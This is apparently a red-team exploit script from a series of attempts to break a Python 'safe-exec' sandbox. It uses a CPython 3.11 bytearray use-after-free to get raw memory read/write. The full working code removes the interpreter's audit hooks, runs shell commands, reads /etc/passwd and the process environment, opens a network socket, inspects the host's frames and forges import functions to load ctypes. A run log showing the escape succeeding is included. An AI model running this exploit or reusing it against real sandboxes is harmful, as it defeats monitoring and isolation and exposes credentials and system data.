# family: wall (memory: gh-91153, bytearray item store into the buffer its value's __index__ moved)   goal: id   interpreter: /usr/bin/python3
# (eleventh wall round, ok_03) FULL ESCAPE: bytearray item store writes into its OLD buffer after the value's
#        __index__ moved it (gh-91153: its second fix, PR #132379 of April 2025, moved
#        the buffer read after __index__, on branches after 3.11; present in 3.11.2
#        and 3.11.7; bytearray's __setitem__ is not guarded) -> one chosen byte written into a freed block ->
#        an empty bytearray's ob_size becomes 2**62 over address 0 -> hook list emptied
#
# Family: memory safety of CPython 3.11 (a plain built-in, no callback trickery beyond
#   __index__; the wall guards array's and list's stores, not bytearray's).
# Mechanism: bytearray_ass_subscript takes buf = PyByteArray_AS_STRING(self) first,
#   then converts the value (_getbytevalue -> our __index__), checks the index
#   against the new size and stores buf[i] = value. Our __index__ extends b by 4 KiB:
#   the realloc moves the buffer and frees the old 64-byte pymalloc block. An empty
#   bytearray() made right then gets that block for its 56-byte header (ob_bytes =
#   ob_start = NULL, ob_size 0). __index__ answers 0x40 and C writes it at old
#   buf + 23: the top byte of that header's ob_size. The empty bytearray now has 2**62
#   bytes at address 0 (PyByteArray_AS_STRING gives ob_start, NULL, once size != 0).
#   No fake object, no id() of anything but the payload's targets.
#   Then wall10's payload: id(type)+constant -> interpreter -> audit_hooks ob_size = 0;
#   os.system, open, AF_INET socket, frames, _imp forged -> ctypes.
# Goals reached: audit hook removed; `id`; /etc/passwd; environment; AF_INET socket;
#   entrypoint frames and globals; native library (ctypes + libc).
# Plain python3: the primitive works in the image's 3.11.2 (docker run --rm --network
#   none -i --entrypoint python3 safe-exec-sandbox:r11 -I - < FILE) and on the host's
#   3.11.7 (prints "bytearray of 0x4000000000000000 bytes at address 0").
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r11; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 41 ms, cpu 40 ms, memory peak 24612 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=f651d3a43d28 LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 7 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys
import asyncio
os = sys.modules["os"]
keep = []
def raw_memory():
    b = bytearray(60)            # buffer of 61 bytes: a 64-byte pymalloc block
    got = []
    class I:
        def __index__(self):
            b.extend(bytes(4096))   # realloc moves the buffer: the 64-byte block is freed
            got.append(bytearray()) # an empty bytearray's header (56 bytes) takes it back:
            return 0x40             # ob_bytes = ob_start = NULL, ob_size = 0
    b[23] = I()                  # written to the OLD buffer + 23: ob_size's top byte
    keep.append(b)
    return got[0]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(rd)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
